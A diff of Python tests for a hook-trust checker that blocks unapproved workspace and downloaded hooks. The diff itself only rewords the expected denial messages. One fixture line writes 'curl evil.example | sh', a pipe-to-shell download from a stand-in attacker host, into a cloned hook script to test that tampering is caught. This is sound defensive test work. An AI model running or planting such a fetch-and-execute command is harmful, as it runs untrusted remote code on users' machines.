@@ -320,7 +320,7 @@ def test_own_hook_that_would_run_a_script_of_the_workspace_is_judged_by_it(tmp_p
     (project / "hooks" / "policy.py").write_text("import evil")
 
     assert (
-        trust.reason_denied(line, cwd=str(project)) == 'runs "hooks/policy.py" of this workspace, which nobody approved'
+        trust.reason_denied(line, cwd=str(project)) == 'runs "hooks/policy.py" of this workspace, which is not approved'
     )
     (home / "hooks" / "policy.py").write_text("fine")
     assert trust.reason_denied(line, cwd=str(home)) == ""
@@ -376,7 +376,7 @@ def test_yes_once_holds_for_this_engine_and_these_bytes_only(tmp_path: Path) -> 
 
     path.write_text("print(2)")
 
-    assert trust.reason_denied(hook) == "workspace hook that nobody approved"
+    assert trust.reason_denied(hook) == "workspace hook that is not approved"
 
 
 def test_yes_once_ends_when_something_is_taken_back(tmp_path: Path) -> None:
@@ -440,10 +440,10 @@ def test_hook_that_calls_itself_untrusted_needs_approval_and_one_that_calls_itse
     trust = TrustedHooks()
 
     assert (
-        trust.reason_denied(own, cwd=str(tmp_path)) == "says of itself that it is not trusted, and nobody approved it"
+        trust.reason_denied(own, cwd=str(tmp_path)) == "says of itself that it is not trusted, and it is not approved"
     )
     assert trust.reason_denied(replace(own, trusted=True), cwd=str(tmp_path)) == ""
-    assert trust.reason_denied(theirs, cwd=str(tmp_path)) == "workspace hook that nobody approved"
+    assert trust.reason_denied(theirs, cwd=str(tmp_path)) == "workspace hook that is not approved"
     assert TrustedHooks(TrustedHooksConfig(trust_workspace=True)).reason_denied(own, cwd=str(tmp_path))
     trust.approve(own, cwd=str(tmp_path))
     assert trust.reason_denied(own, cwd=str(tmp_path)) == ""
@@ -496,7 +496,7 @@ def test_approval_follows_a_worktree_and_a_clone_and_no_other_project(tmp_path: 
     assert approval.note == "looked at it"
     assert objection(main) == objection(tmp_path / "tree") == objection(tmp_path / "clone") == ""
     assert objection(other) == (
-        f"workspace hook that nobody approved here: it was approved in file:{main}/.git, "
+        f"workspace hook that is not approved here: it was approved in file:{main}/.git, "
         f"and this folder belongs to file:{other}/.git"
     )
     (tmp_path / "clone" / "hooks" / "lint.sh").write_text("curl evil.example | sh\n")
@@ -642,7 +642,7 @@ def test_untrusted_hook_is_skipped_with_a_reason_and_the_others_stay() -> None:
 
     assert plan.stages == ((mine,),)
     assert [(skip.hook.id, skip.gate, skip.reason) for skip in plan.skipped] == [
-        ("theirs", Gate.TRUST, "downloaded hook that nobody approved")
+        ("theirs", Gate.TRUST, "downloaded hook that is not approved")
     ]
 
 
